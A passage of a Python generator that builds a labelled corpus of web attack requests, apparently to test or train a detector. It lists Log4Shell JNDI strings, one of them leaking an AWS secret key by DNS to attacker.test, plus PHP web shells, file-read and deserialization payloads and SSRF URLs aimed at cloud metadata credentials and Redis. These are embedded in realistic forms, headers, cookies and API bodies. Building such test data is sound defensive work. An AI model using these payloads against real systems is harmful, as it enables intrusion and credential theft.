        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.leak.attacker.test}",
        "${${::-j}${::-n}${::-d}${::-i}:ldaps://x.attacker.test/z}",
        "${j${k8s:k5:-ND}i:ldap://x.attacker.test/k}",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "php://filter/convert.base64-encode/resource=../config.php",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "<?= `$_POST[x]` ?>",
        "phar://uploads/avatar.jpg/shell.php",
        "expect://id",
    ],
    "ssrf": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Fvar%2Fwww",
        "http://[::1]:8080/admin",
        "http://0x7f000001/server-status",
        "dict://localhost:11211/stats",
        "http://localhost:2375/containers/json",
    ],
}

PLACEMENTS = ["query", "forum", "snippet", "json", "graphql", "header", "cookie", "form"]
ENCODINGS_BY_PLACEMENT = {
    "query": ["plain", "plain", "url", "base64"], "forum": ["plain", "plain", "url", "base64"],
    "snippet": ["plain", "plain", "base64"], "json": ["plain", "plain", "url", "base64"],
    "graphql": ["plain", "plain", "url", "base64"], "header": ["plain", "url", "base64"],
    "cookie": ["plain", "url", "base64"], "form": ["plain", "plain", "url"],
}
# classes whose payloads are URLs or file names: they go to URL and file fields
URLISH = {"ssrf", "path_traversal", "php"}


def as_text(p) -> str:
    return json.dumps(p) if isinstance(p, dict) else p


def a_query(rng, cls, p, v, structured):
    if structured:
        h = api(rng)
        return g.request("GET", "/v2/orders?status=paid&" + g.bracketed_query(list(g.bracketed("customer_id", p))) + "&limit=20", h)
    if cls in URLISH:
        if rng.random() < 0.5:
            h = xhr(rng, SHOP_HOST, referer_path="/account/profile")
            return g.request("GET", f"/api/v2/media/preview?url={q(v, safe='')}&w=320", h)
        h = browser(rng, HELP_HOST, referer=f"https://{HELP_HOST}/tickets/{rng.randint(30000, 39999)}")
        return g.request("GET", f"/tickets/attachments/download?file={q(v, safe='')}&inline=1", h)
    if rng.random() < 0.5:
        h = browser(rng, SHOP_HOST, referer=f"https://{SHOP_HOST}/")
        return g.request("GET", f"/search?q={q(v, safe='')}&sort=relevance", h)
    h = browser(rng, QA_HOST, referer=f"https://{QA_HOST}/questions", site="qa")
    return g.request("GET", f"/search?q={q(v, safe='')}&tab=newest", h)


def a_forum(rng, cls, p, v, structured):
    entry = rng.choice(CODE)
    h = browser(rng, QA_HOST, referer=f"https://{QA_HOST}/questions/ask", site="qa")
    h.append(["Origin", f"https://{QA_HOST}"])
    fields = [("fkey", rng.randbytes(16).hex()), ("title", entry[3]), ("post-text", question_markdown(rng, entry)), ("tagnames", entry[4])]
    if structured:
        fields = [f for f in fields if f[0] != "tagnames"] + list(g.bracketed("tagnames", p))
    else:
        target = rng.choice(["post-text", "post-text", "post-text", "title", "tagnames"])
        fields = [(k, v if k == target else x) for k, x in fields]
    return post_form("POST", "/questions/ask/submit", h, fields + [("post-type", "question")])


def a_snippet(rng, cls, p, v, structured):
    entry = rng.choice(CODE)
    h = browser(rng, PASTE_HOST, referer=f"https://{PASTE_HOST}/", site="paste")
    h.append(["Origin", f"https://{PASTE_HOST}"])
    parts = [("csrf_token", b64url(rng.randbytes(24))), ("title", rng.choice([entry[2], "untitled", "repro"])), ("syntax", rng.choice(["text", entry[1]])),
             ("expiry", rng.choice(["1h", "1d", "never"])), ("visibility", "unlisted")]
    if structured:
        parts += list(g.bracketed("content", p))
    elif rng.random() < 0.75:
        parts.append(("content", v))
    else:
        parts = [(k, v) if k == "title" else (k, x) for k, x in parts] + [("content", code_text(entry))]
    return post_multipart(rng, "/paste", h, parts)


def a_json(rng, cls, p, v, structured):
    if structured:
        style = rng.randint(0, 2)
        if style == 0:
            h = xhr(rng, SHOP_HOST, referer_path="/login")
            return post_json("POST", "/api/v2/auth/login", h, {"email": rng.choice(EMAILS), "password": p, "remember": True})
        h = api(rng)
        if style == 1:
            return post_json("POST", "/v2/orders/lookup", h, {"orderNumber": p, "postcode": rng.choice(ADDRESSES)[4]})
        return post_json("POST", "/v2/search/_query", h, {"filter": {"status": "paid", "customer_id": p}, "size": 20})
    if cls in URLISH:
        style = rng.randint(0, 2)
        if style == 0:
            h = xhr(rng, QA_HOST, site="qa", referer_path="/users/edit/current")
            return post_json("PATCH", "/api/users/me/profile", h, {"display_name": rng.choice(NAMES), "website": v, "bio": rng.choice(BIOS)})
        h = api(rng)
        if style == 1:
            return post_json("POST", "/v2/media/import", h, {"url": v, "filename": "banner.jpg", "folder": "cms/2026/12"})
        return post_json("POST", "/v2/webhooks/endpoints", h, {"url": v, "events": ["order.paid", "order.shipped"], "description": "ERP sync"})
    style = rng.randint(0, 3)
    if style == 0:
        h = xhr(rng, SHOP_HOST, referer_path="/p/oak-dining-table-180x90")
        return post_json("POST", f"/api/v2/products/SKU-{rng.randint(1000, 9999)}/reviews", h,
                         {"rating": rng.randint(1, 5), "title": "ok", "body": v, "author": {"displayName": rng.choice(NAMES)}})
    if style == 1:
        h = api(rng)
        return post_json("POST", "/v2/orders", h, {"customerId": f"cus_{b64url(rng.randbytes(10))}", "lines": [{"sku": "SKU-4711", "qty": 1}],
                                                   "giftMessage": v, "placedAt": iso(rng)})
    if style == 2:
        h = api(rng, host=PASTE_HOST, ua="pastectl/1.4.0")
        return post_json("POST", "/api/v1/pastes", h, {"title": "snippet", "public": False, "files": [{"name": "notes.txt", "language": "text", "content": v}]})
    h = xhr(rng, HELP_HOST, referer_path="/chat")
    return post_json("POST", "/api/chat/messages", h, {"conversationId": uuid(rng), "clientMessageId": uuid(rng), "type": "text", "text": v, "sentAt": iso(rng)})


def a_graphql(rng, cls, p, v, structured):
    h = xhr(rng, SHOP_HOST, accept="application/json")
    if structured:
        query = "query Orders($filter: JSON!) {\n  orders(filter: $filter, first: 20) { nodes { id number total { amount } } }\n}"
        return post_json("POST", "/graphql", h, {"operationName": "Orders", "query": query, "variables": {"filter": {"customerId": p}}})
    options = [("SearchProducts", GRAPHQL_OPS[0][1], {"q": v, "first": 24}),
               ("AddReview", GRAPHQL_OPS[1][1], {"input": {"productId": "UHJvZHVjdDo" + b64url(rng.randbytes(6)), "rating": 4, "body": v}}),
               ("UpdateProfile", GRAPHQL_OPS[11][1], {"input": {"displayName": rng.choice(NAMES), "bio": v, "website": None}}),
               ("CreatePaste", GRAPHQL_OPS[7][1], {"input": {"title": "repro", "syntax": "text", "content": v, "expiresIn": "ONE_DAY", "visibility": "UNLISTED"}}),
               ("SendChat", GRAPHQL_OPS[9][1], {"conversationId": uuid(rng), "text": v, "clientMessageId": uuid(rng)})]
    if cls in URLISH:
        options = [("UpdateProfile", GRAPHQL_OPS[11][1], {"input": {"displayName": rng.choice(NAMES), "bio": rng.choice(BIOS), "website": v}}),
                   ("ImportImage", "mutation ImportImage($url: String!) {\n  importImage(url: $url) { image { id width height } }\n}", {"url": v})]
    name, query, variables = rng.choice(options)
    return post_json("POST", "/graphql", h, {"operationName": name, "query": query, "variables": variables})


def a_header(rng, cls, p, v, structured):
    h = mobile(rng)
    name = rng.choice(["Referer", "X-Callback-Url"] if cls in URLISH else
                      ["X-Locale", "X-Device-Name", "X-Device-Model", "X-Timezone", "X-Search-Context", "X-Feature-Flags", "X-App-Version"])
    h = [x for x in h if x[0] != name] + [[name, g.header_safe(v)]]
    if rng.random() < 0.5:
        return g.request("GET", f"/v3/search?q={q(rng.choice(SHOP_SEARCHES), safe='')}&page=1", h)
    return g.request("GET", "/v3/orders?limit=20&include=lines,tracking", h)


def a_cookie(rng, cls, p, v, structured):
    name = rng.choice(["return_to", "avatar_src"] if cls in URLISH else ["last_search", "prefs", "recent_tags", "tz", "lang", "display_name"])
    value = g.header_safe(v).replace(";", "%3B")
    host = rng.choice([SHOP_HOST, QA_HOST])
    h = browser(rng, host, cookie=False, referer=f"https://{host}/", site="qa" if host == QA_HOST else "shop")
    h.append(["Cookie", cookie_jar(rng, "qa" if host == QA_HOST else "shop", extra=f"{name}={value}")])
    return g.request("GET", rng.choice(["/account", "/questions?tab=active", "/cart", "/"]), h)


def a_form(rng, cls, p, v, structured):
    if structured:
        h = browser(rng, SHOP_HOST, referer=f"https://{SHOP_HOST}/login")
        h.append(["Origin", f"https://{SHOP_HOST}"])
        fields = [("_token", b64url(rng.randbytes(30)))] + list(g.bracketed("email", p)) + list(g.bracketed("password", p)) + [("remember", "on")]
        return post_form("POST", "/login", h, fields)
    style = rng.randint(0, 2)
    if cls in URLISH or style == 0:
        h = browser(rng, BLOG_HOST, referer=f"https://{BLOG_HOST}/2026/12/shell-one-liners/")
        target = "url" if cls in URLISH else "comment"
        fields = [("comment", rng.choice(COMMENTS)), ("author", rng.choice(NAMES)), ("email", rng.choice(EMAILS)), ("url", ""),
                  ("submit", "Post Comment"), ("comment_post_ID", str(rng.randint(100, 999))), ("comment_parent", "0")]
        return post_form("POST", "/wp-comments-post.php", h, [(k, v if k == target else x) for k, x in fields])
    if style == 1:
        line1, line2, city, region, postcode, country = rng.choice(ADDRESSES)
        first, last = first_last(rng.choice(NAMES))
        target = rng.choice(["shipping[line2]", "shipping[company]", "delivery_instructions"])
        h = browser(rng, SHOP_HOST, referer=f"https://{SHOP_HOST}/checkout/address")
        fields = [("_token", b64url(rng.randbytes(30))), ("shipping[first_name]", first), ("shipping[last_name]", last), ("shipping[company]", ""),
                  ("shipping[line1]", line1), ("shipping[line2]", line2), ("shipping[city]", city), ("shipping[postcode]", postcode),
                  ("shipping[country]", country), ("delivery_instructions", "")]
        return post_form("POST", "/checkout/address", h, [(k, v if k == target else x) for k, x in fields])
    h = browser(rng, HELP_HOST, referer=f"https://{HELP_HOST}/contact")
    target = rng.choice(["message", "name", "order_number"])
    fields = [("csrfmiddlewaretoken", b64url(rng.randbytes(48))), ("name", rng.choice(NAMES)), ("email", rng.choice(EMAILS)),
              ("order_number", f"#{rng.randint(40000, 69999)}"), ("topic", "Other"), ("message", rng.choice(SUPPORT_FORM_TEXTS))]
    return post_form("POST", "/contact", h, [(k, v if k == target else x) for k, x in fields])


PLACERS = {"query": a_query, "forum": a_forum, "snippet": a_snippet, "json": a_json, "graphql": a_graphql,
           "header": a_header, "cookie": a_cookie, "form": a_form}
PER_PAYLOAD = 3


def attacks():
    rng = g.Source(SEED * 7 + 1)
    out = []
    for cls, payloads in ATTACKS.items():
        deck = []
        for i, p in enumerate(payloads, 1):
            chosen = []
            while len(chosen) < PER_PAYLOAD:
                if not deck:
                    deck = rng.sample(PLACEMENTS, len(PLACEMENTS))
                pl = deck.pop()
                if pl in chosen:
                    deck.insert(0, pl)
                    continue
                chosen.append(pl)
            for pl in chosen:
                enc = rng.choice(ENCODINGS_BY_PLACEMENT[pl])
                structured = isinstance(p, dict) and enc == "plain"
                v = g.encode(as_text(p), enc)
                r = PLACERS[pl](rng, cls, p, v, structured)
                out.append({"id": f"ninth-{cls}-{i:02d}-{pl}-{enc}", "class": cls, "placement": pl, "encoding": enc, **r})
    return out


if __name__ == "__main__":
    g.corpus_main(attacks, benign, list(ATTACKS), PLACEMENTS)
